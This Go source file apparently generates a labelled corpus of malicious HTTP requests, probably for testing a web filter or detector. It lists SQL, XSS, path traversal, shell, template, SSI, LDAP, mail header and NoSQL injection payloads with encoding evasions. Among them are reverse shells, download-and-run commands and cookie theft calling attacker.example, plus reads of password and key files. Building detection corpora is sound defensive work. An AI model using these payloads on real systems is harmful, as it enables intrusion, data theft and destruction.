package corpus

import (
	"fmt"
	"net/url"
	"strings"
)

// The injection classes: SQL, XSS, path traversal, shell commands, server-side
// templates, SSI, LDAP filters, mail headers, NoSQL operators. Each has base payloads
// written from the grammar of the language attacked, evasions applied to them
// programmatically, and the places attackers put them. Sample i takes base payload
// i mod len(bases), so every base appears, with an evasion and a place chosen by the
// generator's seeded source.

var sqliBases = []string{
	"1' OR '1'='1", "1' OR 1=1-- -", "' OR ''='", "admin'--", "1 OR 1=1", "1) OR (1=1", "' UNION SELECT NULL,NULL,NULL-- -",
	"-1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)-- -", "1; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--",
	"' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -", "' AND updatexml(1,concat(0x7e,user()),1)-- -", "1 AND 1=CONVERT(int,(SELECT @@version))",
	"'; DROP TABLE users;--", "1' ORDER BY 5-- -", "' OR EXISTS(SELECT * FROM information_schema.tables)--",
	"1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -", "' || (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)--",
	"\") OR (\"a\"=\"a", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -", "' UNION ALL SELECT LOAD_FILE('/etc/passwd')-- -",
	"'; EXEC xp_cmdshell('whoami')--", "1' AND benchmark(5000000,md5(1))#", "1 AND (SELECT COUNT(*) FROM sysobjects)>0", "admin' AND '1'='1",
}

func genSQLi(r *rng, i int) Request {
	v := sqliBases[i%len(sqliBases)]
	note := "SQL injection"
	switch r.IntN(7) {
	case 1:
		v, note = spacesToComments(v), note+", comments for spaces"
	case 2:
		v, note = alternateCase(v), note+", mixed case"
	case 3:
		v = strings.NewReplacer("UNION", "/*!50000UNION*/", "SELECT", "/*!50000SELECT*/", "OR", "||", "AND", "&&").Replace(v)
		note += ", MySQL versioned comments and operators"
	case 4:
		v, note = strings.ReplaceAll(v, " ", "\t"), note+", tabs for spaces"
	case 5:
		v, note = strings.ReplaceAll(v, " ", "\n"), note+", newlines for spaces"
	}
	switch pick(r, inQuery, inQuery, inForm, inJSON, inJSON, inPath, inHeader, inCookie, "json-number") {
	case "json-number": // the payload where the API expects a number, unquoted or as a string
		field := pick(r, "product_id", "quantity", "user_id", "page")
		num := strings.TrimLeft(v, "'\")")
		if r.chance(0.5) {
			return attackRequest(r, payload{value: fmt.Sprintf(`{"%s": %s, "currency": "EUR"}`, field, num), place: inJSON, raw: true, note: note + ", unquoted where a JSON number belongs"})
		}
		return attackRequest(r, payload{value: fmt.Sprintf(`{"%s": "%s", "filter": {"price": {"max": 100}}}`, field, strings.ReplaceAll(num, `"`, `\"`)), place: inJSON, raw: true, note: note + ", a number field as a string"})
	case inQuery:
		return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "id", "q", "sort", "category", "order_id", "user"), note: note})
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "username", "email", "search", "id"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "username", "search", "id", "sort", "email"), note: note})
	case inPath:
		return attackRequest(r, payload{value: v, place: inPath, note: note + ", in a path segment"})
	case inHeader:
		return attackRequest(r, payload{value: strings.NewReplacer("\t", " ", "\n", " ").Replace(v), place: inHeader, param: pick(r, "User-Agent", "Referer", "X-Forwarded-For", "X-Client-Id"), note: note})
	}
	return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "session_id", "lang", "cart_id", "tracking"), note: note})
}

var xssBases = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(document.domain)>", "<svg onload=alert(1)>", "<svg/onload=confirm`1`>",
	"\"><script>alert(String.fromCharCode(88,83,83))</script>", "'><img src=x onerror=prompt(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
	"<a href=\"javascript:alert(document.cookie)\">click</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
	"<video><source onerror=\"alert(1)\">", "javascript:alert(1)", "\" onmouseover=\"alert(1)", "';alert(1);//", "</script><script>alert(1)</script>",
	"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
	"<marquee onstart=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
}

// xssCalls are JavaScript without any tag, as it lands in a JSON API whose value a page
// later puts into a script or an event handler.
var xssCalls = []string{
	"confirm.call(null,1)", "alert.apply(null,[document.cookie])", "[1].find(alert)", "top['al'+'ert'](1)", "window['ev'+'al']('alert(1)')",
	"self[atob('YWxlcnQ=')](1)", "Function('alert(1)')()", "setTimeout('alert(1)',0)", "eval(atob('YWxlcnQoMSk='))", "import('//attacker.example/x.js')",
	"fetch('//attacker.example/?c='+document.cookie)", "new Image().src='//attacker.example/?c='+document.cookie", "location='javascript:alert(1)'",
	"alert?.(1)", "Reflect.apply(alert,null,[1])", "prompt.call`1`",
}

func genXSS(r *rng, i int) Request {
	if i%3 == 2 { // JavaScript calls in JSON APIs and parameters
		v := xssCalls[(i/3)%len(xssCalls)]
		if r.chance(0.3) {
			v = pick(r, "\"-", "';", "1;") + v + pick(r, "-\"", "//", "")
		}
		switch r.IntN(4) {
		case 0, 1:
			return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "callback", "name", "redirect", "title", "onload"), note: "XSS, a JavaScript call in a JSON API"})
		case 2:
			return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "callback", "jsonp", "next", "q"), note: "XSS, a JavaScript call in a parameter"})
		}
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "comment", "bio", "website"), note: "XSS, a JavaScript call in a form"})
	}
	v := xssBases[i%len(xssBases)]
	note := "XSS"
	raw := false
	switch r.IntN(7) {
	case 1:
		v, note = alternateCase(v), note+", mixed case"
	case 2:
		v, note = strings.ReplaceAll(strings.ReplaceAll(v, "<", "&#x3C;"), ">", "&#x3E;"), note+", HTML entities"
	case 3:
		v, note, raw = doubleEncode(v), note+", double percent-encoding", true
	case 4:
		v, note = strings.NewReplacer("javascript:", "java\tscript:", " on", "/on", "<script", "<script ").Replace(v), note+", tabs and slashes"
	}
	if raw {
		return attackRequest(r, payload{value: v, place: pick(r, inQuery, inForm), param: pick(r, "q", "name", "message"), raw: true, note: note})
	}
	switch pick(r, inQuery, inQuery, inForm, inJSON, inJSON, inHeader, inCookie, inPath, inMultipart, "json-unicode") {
	case "json-unicode": // the same in JSON with the markup escaped as \u003c ... \u003e
		esc := strings.NewReplacer("<", `\u003c`, ">", `\u003e`, `"`, `\u0022`, "'", `\u0027`).Replace(v)
		return attackRequest(r, payload{value: `{"bio":"` + esc + `","name":"` + pick(r, firstNames...) + `"}`, place: inJSON, raw: true, note: note + ", JSON unicode escapes"})
	case inQuery:
		return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "q", "search", "name", "redirect", "message"), note: note})
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "comment", "name", "subject", "message"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "name", "bio", "title", "content", "displayName"), note: note})
	case inHeader:
		return attackRequest(r, payload{value: v, place: inHeader, param: pick(r, "Referer", "User-Agent", "X-Forwarded-Host"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "username", "last_search", "theme"), note: note})
	case inPath:
		return attackRequest(r, payload{value: v, place: inPath, note: note + ", in a path segment"})
	}
	if r.chance(0.5) {
		return attackRequest(r, payload{value: strings.ReplaceAll(v, "\"", "'") + ".png", place: inMultipart, param: "filename", note: note + ", in an upload's file name"})
	}
	return attackRequest(r, payload{value: v, place: inMultipart, param: "description", note: note + ", in a multipart field"})
}

var traversalTargets = []string{"etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ", "WEB-INF/web.xml", ".env",
	"config/database.yml", "var/log/nginx/access.log", ".git/config", "app/etc/local.xml", "wp-config.php", ".ssh/id_rsa", "etc/hosts"}

// traversalSteps are one "../" in the encodings attackers try: plain, percent-encoded in
// part or whole, double-encoded, overlong UTF-8 (2 and 3 bytes), IIS's %u, backslashes,
// filter-stripping doubles, Tomcat's ";".
var traversalSteps = []struct{ step, note string }{
	{"../", "plain"}, {"..%2f", "encoded slash"}, {"%2e%2e%2f", "encoded dots and slash"}, {"%2e%2e/", "encoded dots"},
	{"..%252f", "double-encoded slash"}, {"%252e%252e%252f", "double-encoded"}, {"%c0%ae%c0%ae%c0%af", "overlong UTF-8, 2 bytes"},
	{"..%c0%af", "overlong UTF-8 slash"}, {"%e0%80%ae%e0%80%ae/", "overlong UTF-8, 3 bytes"}, {"..%u2215", "IIS %u slash"},
	{"%uff0e%uff0e/", "IIS %u full-width dots"}, {"..\\", "backslash"}, {"..%5c", "encoded backslash"}, {"..%255c", "double-encoded backslash"},
	{"....//", "doubled for filters that strip ../"}, {"..;/", "Tomcat path parameter"}, {".%2e/", "half-encoded dots"}, {"%%32%65%%32%65/", "nested encoding"},
}

func genTraversal(r *rng, i int) Request {
	t := traversalTargets[i%len(traversalTargets)]
	st := traversalSteps[(i*7+r.IntN(3))%len(traversalSteps)]
	depth := r.between(3, 8)
	val := strings.Repeat(st.step, depth) + t
	note := "path traversal, " + st.note
	switch i % 9 {
	case 7: // absolute paths and schemes, no ../ at all
		val = pick(r, "/etc/passwd", "file:///etc/passwd", "/etc/passwd%00.png", "C:\\Windows\\win.ini", "\\\\127.0.0.1\\c$\\windows\\win.ini", "/proc/self/cmdline", "file://localhost/c:/windows/win.ini")
		note = "path traversal, an absolute path or file: URL"
	case 8:
		val += pick(r, "%00", "%00.jpg", "?", "#")
		note += ", null byte or suffix"
	}
	switch pick(r, inQuery, inQuery, inQuery, inPath, inForm, inJSON, inCookie, inHeader, inMultipart) {
	case inPath:
		return attackRequest(r, payload{value: val, place: inPath, raw: true, note: note + ", in the path"})
	case inForm:
		return attackRequest(r, payload{value: val, place: inForm, param: pick(r, "file", "template", "path"), raw: true, note: note})
	case inJSON:
		return attackRequest(r, payload{value: decodeSteps(val), place: inJSON, param: pick(r, "file", "path", "attachment", "avatar"), note: note + " (decoded in JSON)"})
	case inCookie:
		return attackRequest(r, payload{value: val, place: inCookie, param: pick(r, "lang", "template", "theme"), raw: true, note: note})
	case inHeader:
		return attackRequest(r, payload{value: "/" + val, place: inHeader, param: pick(r, "X-Original-URL", "X-Rewrite-URL", "X-File-Name"), raw: true, note: note})
	case inMultipart:
		return attackRequest(r, payload{value: strings.ReplaceAll(decodeSteps(val), "\\", "/") + pick(r, "", ".png"), place: inMultipart, param: "filename", note: note + ", in an upload's file name"})
	}
	return attackRequest(r, payload{value: val, place: inQuery, param: pick(r, "file", "page", "template", "download", "img", "lang", "doc"), raw: true, note: note})
}

// decodeSteps undoes one level of percent-encoding, for places (JSON) where the value
// travels decoded.
func decodeSteps(s string) string {
	out, err := urlUnescape(s)
	if err != nil {
		return s
	}
	return out
}

var shellBases = []string{"; id", "| id", "|| id", "&& id", "`id`", "$(id)", "; cat /etc/passwd", "| cat /etc/passwd", "; uname -a", "& ping -c 3 127.0.0.1 &",
	"; sleep 5", "| nc -e /bin/sh attacker.example 4444", "; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "; curl http://attacker.example/x.sh | sh",
	"; wget -qO- http://attacker.example/x | bash", "\nid", "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh", "& type C:\\Windows\\win.ini",
	"| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"", "& whoami /all",
	"; python3 -c 'import os;os.system(\"id\")'", "; perl -e 'system(\"id\")'", "; rm -rf /tmp/x", "$(curl -s attacker.example/$(whoami))"}

// shellEvasions rewrite a command the ways shells still read it.
var shellEvasions = []struct{ from, to, note string }{
	{"cat /etc/passwd", "c''at /e\"\"tc/pa''sswd", "quotes inside words"},
	{"cat /etc/passwd", "/???/c?t /???/p?ss??", "globs"},
	{"cat /etc/passwd", "cat${IFS}/etc/passwd", "$IFS for spaces"},
	{"cat /etc/passwd", "cat$IFS$9/etc/passwd", "$IFS$9"},
	{"cat /etc/passwd", "{cat,/etc/passwd}", "brace expansion"},
	{"cat /etc/passwd", "c\\at /et\\c/pas\\swd", "backslashes"},
	{"cat /etc/passwd", "cat</etc/passwd", "redirection for a space"},
	{"cat /etc/passwd", "cat ${HOME:0:1}etc${HOME:0:1}passwd", "substrings for slashes"},
	{"id", "$'\\x69\\x64'", "ANSI-C hex"},
	{"id", "i''d", "quotes"},
	{"whoami", "w'h'o'am'i", "quotes"},
	{"uname -a", "un$()ame -a", "empty substitution"},
	{"sleep 5", "sl${x}eep${IFS}5", "empty variable"},
}

func genShell(r *rng, i int) Request {
	v := shellBases[i%len(shellBases)]
	note := "command injection"
	if r.chance(0.5) {
		for _, e := range shellEvasions[r.IntN(len(shellEvasions)):] {
			if strings.Contains(v, e.from) {
				v, note = strings.Replace(v, e.from, e.to, 1), note+", "+e.note
				break
			}
		}
	}
	prefix := pick(r, "127.0.0.1", "example.com", "report.pdf", "", "8.8.8.8")
	val := prefix + v
	switch pick(r, inQuery, inQuery, inForm, inJSON, inHeader, inCookie, inMultipart, "shellshock") {
	case "shellshock":
		return attackRequest(r, payload{value: "() { :; }; /bin/bash -c '" + strings.TrimLeft(strings.TrimSpace(v), ";|&`$( ") + "'", place: inHeader, param: pick(r, "User-Agent", "Referer", "Cookie2"), note: "command injection, Shellshock"})
	case inForm:
		return attackRequest(r, payload{value: val, place: inForm, param: pick(r, "host", "ip", "filename", "domain"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: val, place: inJSON, param: pick(r, "host", "target", "cmd", "filename", "url"), note: note})
	case inHeader:
		return attackRequest(r, payload{value: strings.ReplaceAll(val, "\n", " "), place: inHeader, param: pick(r, "X-Forwarded-For", "User-Agent", "X-Device-Name"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: val, place: inCookie, param: pick(r, "server", "locale", "debug"), note: note})
	case inMultipart:
		return attackRequest(r, payload{value: strings.NewReplacer("/", "_", "\n", " ", "\"", "'").Replace(val) + ".jpg", place: inMultipart, param: "filename", note: note + ", in an upload's file name"})
	}
	return attackRequest(r, payload{value: val, place: inQuery, param: pick(r, "host", "ip", "cmd", "domain", "file", "ping"), note: note})
}

var sstiBases = []string{
	"{{7*7}}", "{{7*'7'}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__.__builtins__}}",
	"{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
	"{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
	"{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
	"${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
	"#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
	"{{['id']|filter('system')}}", "{php}echo `id`;{/php}", "{system('id')}", "<%= system('id') %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>",
	"#{`id`}", "${{<%[%'\"}}%\\.", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
	"{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "@(7*7)",
	"@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }", "[[${7*7}]]", "{{= 7*7}}", "${__import__('os').system('id')}",
}

func genSSTI(r *rng, i int) Request {
	v := sstiBases[i%len(sstiBases)]
	note := "template injection"
	if r.chance(0.25) {
		v = pick(r, "Hello ", "Dear ", "") + v
	}
	switch pick(r, inQuery, inQuery, inForm, inForm, inJSON, inJSON, inHeader, inCookie) {
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "name", "greeting", "comment", "subject"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "name", "template", "message", "title"), note: note})
	case inHeader:
		return attackRequest(r, payload{value: v, place: inHeader, param: pick(r, "User-Agent", "X-Template", "Referer"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "name", "greeting"), note: note})
	}
	return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "name", "template", "q", "preview", "email"), note: note})
}

var ssiBases = []string{
	`<!--#exec cmd="id" -->`, `<!--#exec cmd="cat /etc/passwd" -->`, `<!--#include virtual="/etc/passwd" -->`, `<!--#include file="../../../../etc/passwd" -->`,
	`<!--#echo var="DOCUMENT_ROOT" -->`, `<!--#echo var="DATE_LOCAL" -->`, `<!--#printenv -->`, `<!--#config errmsg="x" --><!--#exec cmd="ls" -->`,
	`<!--#set var="x" value="y" --><!--#echo var="x" -->`, `<!--#fsize file="index.html" -->`, `<!--#exec cgi="/cgi-bin/test.cgi" -->`,
	`<!--#if expr="$HTTP_HOST" -->x<!--#endif -->`, `<esi:include src="http://attacker.example/x"/>`, `<esi:vars>$(HTTP_COOKIE)</esi:vars>`,
	`<!--#include virtual="/cgi-bin/counter.pl?x=$(id)" -->`,
}

func genSSI(r *rng, i int) Request {
	v := ssiBases[i%len(ssiBases)]
	note := "server-side include"
	switch r.IntN(4) {
	case 1:
		v, note = strings.ToUpper(v[:9])+v[9:], note+", upper case"
	case 2:
		v, note = strings.Replace(strings.Replace(v, "<!--#", "<!--# ", 1), " -->", "-->", 1), note+", spacing"
	}
	switch pick(r, inQuery, inQuery, inForm, inForm, inJSON, inHeader, inCookie, inMultipart) {
	case inForm:
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "comment", "name", "message"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "comment", "bio", "title"), note: note})
	case inHeader:
		return attackRequest(r, payload{value: v, place: inHeader, param: pick(r, "User-Agent", "Referer", "X-Forwarded-For"), note: note})
	case inCookie:
		return attackRequest(r, payload{value: v, place: inCookie, param: pick(r, "name", "prefs"), note: note})
	case inMultipart:
		return attackRequest(r, payload{value: v, place: inMultipart, param: "description", note: note})
	}
	return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "q", "page", "name"), note: note})
}

var ldapBases = []string{"*)(uid=*))(|(uid=*", "admin)(&)", "admin)(|(password=*))", "*)(|(objectClass=*)", "*))\x00", ")(cn=*))(|(cn=*",
	"*()|&'", "admin*)((|userPassword=*)", "x*)(|(mail=*))", "*)(&(objectClass=user)(|(cn=*", "*)(userPassword=*", "admin)(!(&(1=0",
	"*)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)", "jdoe)(|(objectclass=*)", "*(|(mail=*))"}

func genLDAP(r *rng, i int) Request {
	v := ldapBases[i%len(ldapBases)]
	note := "LDAP filter injection"
	switch pick(r, inForm, inForm, inQuery, inQuery, inJSON) {
	case inForm:
		if r.chance(0.5) {
			val := url.QueryEscape(v) + "&password=" + url.QueryEscape(pick(r, "x", "*", v))
			return attackRequest(r, payload{value: val, place: inForm, param: "username", raw: true, note: note + ", in a login form"})
		}
		return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "user", "uid", "search"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "username", "filter", "uid"), note: note})
	}
	return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "user", "uid", "cn", "search", "filter"), note: note})
}

var mailBases = []string{
	"victim@example.com\r\nBcc: list@attacker.example", "victim@example.com\nCc: x@attacker.example", "Hello\r\nBcc: a@attacker.example",
	"test\r\nContent-Type: text/html\r\n\r\n<a href=\"http://attacker.example\">win</a>", "x@example.com\nTo: victim2@example.org",
	"a@example.com\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT", "a@example.com>\r\nRCPT TO:<b@attacker.example",
	"Question\r\nX-Mailer: evil\r\nReply-To: a@attacker.example", "name\r\nFrom: ceo@example.com", "a@b.c%0d%0aBcc:spam@attacker.example",
	"me@example.com\r\nSubject: Invoice overdue\r\nBcc: everyone@attacker.example", "\r\nMAIL FROM:<x@attacker.example>\r\n",
}

func genMail(r *rng, i int) Request {
	v := mailBases[i%len(mailBases)]
	note := "mail header injection"
	if strings.Contains(v, "RCPT") || strings.Contains(v, "MAIL FROM") {
		note = "SMTP command injection"
	}
	switch pick(r, inForm, inForm, inForm, inQuery, inJSON) {
	case inQuery:
		return attackRequest(r, payload{value: v, place: inQuery, param: pick(r, "email", "to", "subject"), note: note})
	case inJSON:
		return attackRequest(r, payload{value: v, place: inJSON, param: pick(r, "email", "subject", "name", "replyTo"), note: note})
	}
	return attackRequest(r, payload{value: v, place: inForm, param: pick(r, "email", "subject", "name", "contact[email]"), note: note + ", in a contact form"})
}

// noSQL: operators where the application expects a value, in a query string or form
// (PHP and Express parse a[b]=c into objects), and in JSON keys.
var nosqlForms = []string{"username[$ne]=x&password[$ne]=x", "user[$regex]=^adm", "id[$gt]=", "price[$lt]=0", "token[$exists]=true", "q[$where]=sleep(5000)",
	"username[$in][]=admin&username[$in][]=root", "password[$regex]=.*", "email[$nin][]=", "login[$gte]=&pass[$ne]=1"}
var nosqlJSON = []string{`{"username":{"$ne":null},"password":{"$ne":null}}`, `{"username":"admin","password":{"$gt":""}}`, `{"$where":"sleep(5000)||true"}`,
	`{"username":{"$regex":"^a.*"}}`, `{"$or":[{"a":1},{"b":{"$ne":null}}]}`, `{"filter":{"$expr":{"$eq":[1,1]}}}`, `{"age":{"$gt":0},"role":{"$in":["admin"]}}`,
	`{"$where":"this.password.length>0"}`, `{"id":{"$nin":[]}}`, `{"email":{"$regex":"@example\\.com$","$options":"i"},"password":{"$exists":true}}`}
var nosqlJS = []string{"'; return true; var x='", "1; while(true){}", "'||'1'=='1", "\"||this.password.match(/.*/)//", "'; sleep(5000); '", "admin' && this.password!='"}

func genNoSQL(r *rng, i int) Request {
	note := "NoSQL operator injection"
	switch i % 3 {
	case 0:
		v := nosqlForms[(i/3)%len(nosqlForms)]
		if r.chance(0.5) {
			req := attackRequest(r, payload{value: "x", place: inQuery, param: "page", note: note + ", in the query"})
			req.Target = strings.SplitN(req.Target, "?", 2)[0] + "?" + strings.NewReplacer("[", "%5B", "]", "%5D", "$", pick(r, "$", "%24")).Replace(v)
			return req
		}
		k, val, _ := strings.Cut(v, "=")
		return attackRequest(r, payload{value: val, place: inForm, param: k, raw: true, note: note + ", in a form"})
	case 1:
		return attackRequest(r, payload{value: nosqlJSON[(i/3)%len(nosqlJSON)], place: inJSON, raw: true, note: note + ", in JSON keys"})
	}
	v := nosqlJS[(i/3)%len(nosqlJS)]
	if r.chance(0.3) {
		return attackRequest(r, payload{value: `{"session":{"$ne":null}}`, place: inCookie, param: "filter", note: "NoSQL operator injection, JSON in a cookie"})
	}
	return attackRequest(r, payload{value: v, place: pick(r, inQuery, inForm, inJSON), param: pick(r, "username", "q", "id"), note: "NoSQL JavaScript injection"})
}

func urlUnescape(s string) (string, error) { return url.PathUnescape(s) }
